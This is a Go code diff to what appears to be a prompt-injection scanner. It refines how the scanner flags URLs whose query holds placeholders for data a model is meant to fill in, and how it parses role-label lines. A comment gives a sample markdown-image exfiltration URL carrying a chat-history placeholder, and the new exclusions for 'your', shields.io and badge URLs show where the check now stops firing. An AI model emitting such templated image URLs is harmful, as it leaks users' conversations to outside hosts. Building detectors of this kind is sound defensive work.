@@ -88,10 +88,13 @@ func (a *analysis) markURLs(s *scanned, field string) {
 		lo, hi := s.sents[k][0], s.sents[k][1]
 		// a URL whose query is a placeholder for data the model is to fill
 		// in (markdown-image exfiltration: ![x](https://h/p?d={history}))
-		if q := strings.IndexByte(url, '?'); q > 0 && strings.ContainsAny(url[q:], "{<$[") {
+		if q := strings.IndexByte(url, '?'); q > 0 && strings.ContainsAny(url[q:], "{<$[") && !strings.Contains(url[q:], "your") {
 			image := start >= 2 && strings.HasSuffix(f[:start], "](") && strings.Contains(f[max(0, start-200):start], "![")
-			if image || a.unnegatedAction(s, lo, hi, rSend|rInclude) || s.mask(lo, hi)&(rConv|rCred) != 0 {
+			switch {
+			case image && strings.ContainsAny(url[q:], "{<") && !strings.Contains(url, "shields.io") && !strings.Contains(url, "badge"):
 				a.add(sigURLTemplate, field, wURLTemplate, url)
+			case a.unnegatedAction(s, lo, hi, rSend|rInclude) || s.mask(lo, hi)&(rConv|rCred) != 0:
+				a.add(sigURLPlaceholder, field, wURLPlaceholder, url)
 			}
 		}
 		if a.unnegatedAction(s, lo, hi, rSend) {
@@ -296,9 +299,11 @@ func (a *analysis) roleLines(f, field string) {
 			end += start
 		}
 		line := strings.TrimLeft(f[start:end], " #*>-[(_")
-		label, rest, ok := strings.Cut(line, ":")
-		if !ok {
-			label, rest, ok = strings.Cut(line, "]")
+		cut := strings.IndexAny(line, ":]")
+		ok := cut >= 0
+		label, rest := line, ""
+		if ok {
+			label, rest = line[:cut], line[cut+1:]
 		}
 		if ok && len(label) <= 24 {
 			label = strings.TrimRight(label, " *])_")
